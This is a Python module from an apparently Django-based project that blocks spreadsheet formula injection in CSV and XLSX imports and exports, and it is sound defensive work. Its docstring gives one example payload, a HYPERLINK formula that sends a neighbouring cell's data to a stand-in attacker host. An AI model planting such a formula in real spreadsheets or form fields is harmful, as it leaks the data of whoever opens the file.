"""Spreadsheet files that are safe to open: one rule against formula injection for every
export, CSV and XLSX, and its inverse on import.

A cell whose text begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run
as a formula by Excel and LibreOffice (OWASP, "CSV Injection"): a worker named
``=HYPERLINK("http://evil.example/?"&A2,"Click")`` would send the next column to a stranger
when the state office opens the export. So:

- in CSV such a cell gets a leading apostrophe (``'=HYPERLINK(...)``), which spreadsheet
  programs show as text; importing a CSV removes exactly that apostrophe again, so a phone
  number exported as ``'+919876543210`` imports back as ``+919876543210``;
- in XLSX text is written as text (a cell of type string, never a formula), so nothing needs
  escaping and nothing is changed; numbers and dates stay numbers and dates; characters that
  XLSX cannot hold (control characters) are replaced by "�" rather than failing the export.

``SafeCSV`` and ``SafeXLSX`` are django-import-export formats (``IMPORT_EXPORT_FORMATS``);
:func:`escape_csv_cell` and :func:`xlsx_workbook` serve exports written by hand. Both refuse
to read a sheet with more rows than one import may take (``SEVA_IMPORT_MAX_ROWS``,
:func:`seva.base.imports.within_row_limit`).
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from io import BytesIO
from typing import Any

import tablib
from import_export.formats import base_formats
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from .imports import within_row_limit

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def escape_csv_cell(value: Any) -> Any:
    """A CSV cell with the OWASP rule applied: text that a spreadsheet would run as a formula
    gets a leading apostrophe. Anything that is not text is left as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def unescape_csv_cell(value: Any) -> Any:
    """The inverse of :func:`escape_csv_cell`, for a CSV being imported."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def _map_cells(dataset: tablib.Dataset, function: Any) -> tablib.Dataset:
    mapped = tablib.Dataset(headers=dataset.headers, title=dataset.title)
    for row in dataset:
        mapped.append([function(cell) for cell in row])
    return mapped


def xlsx_cell_value(value: Any) -> Any:
    """A value openpyxl will store as it is: text stays text (control characters replaced)."""
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("\N{REPLACEMENT CHARACTER}", value)
    return value


def xlsx_workbook(sheets: Iterable[tuple[str, Sequence[Any], Iterable[Sequence[Any]]]]) -> bytes:
    """An XLSX file of ``(title, headers, rows)`` sheets, with every text cell a string cell
    (openpyxl would otherwise turn text beginning with ``=`` into a formula)."""
    book = Workbook(write_only=False)
    book.remove(book.active)
    for title, headers, rows in sheets:
        sheet = book.create_sheet(title=(title or "Sheet")[:31])
        if headers:
            sheet.append([xlsx_cell_value(h) for h in headers])
        for row in rows:
            sheet.append([xlsx_cell_value(value) for value in row])
            for cell in sheet[sheet.max_row]:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
        sheet.freeze_panes = "A2" if headers else None
    out = BytesIO()
    book.save(out)
    return out.getvalue()


class SafeCSV(base_formats.CSV):
    """CSV with formula-like cells escaped on export and unescaped on import."""

    def export_data(self, dataset: tablib.Dataset, **kwargs: Any) -> str:
        return _map_cells(dataset, escape_csv_cell).export("csv", **kwargs)

    def create_dataset(self, in_stream: Any, **kwargs: Any) -> tablib.Dataset:
        dataset = within_row_limit(super().create_dataset(in_stream, **kwargs))
        return _map_cells(dataset, unescape_csv_cell)


class SafeXLSX(base_formats.XLSX):
    """XLSX whose text cells are always text, never formulas, and never fail to export."""

    def export_data(self, dataset: tablib.Dataset, **kwargs: Any) -> bytes:
        return xlsx_workbook([(dataset.title or "Sheet", dataset.headers or [], dataset)])

    def create_dataset(self, in_stream: Any, **kwargs: Any) -> tablib.Dataset:
        return within_row_limit(super().create_dataset(in_stream, **kwargs))


# The formats every import and export page offers (``IMPORT_EXPORT_FORMATS``): nothing else
# can be uploaded (an HTML "spreadsheet", say) or downloaded.
FORMATS = [SafeCSV, SafeXLSX]
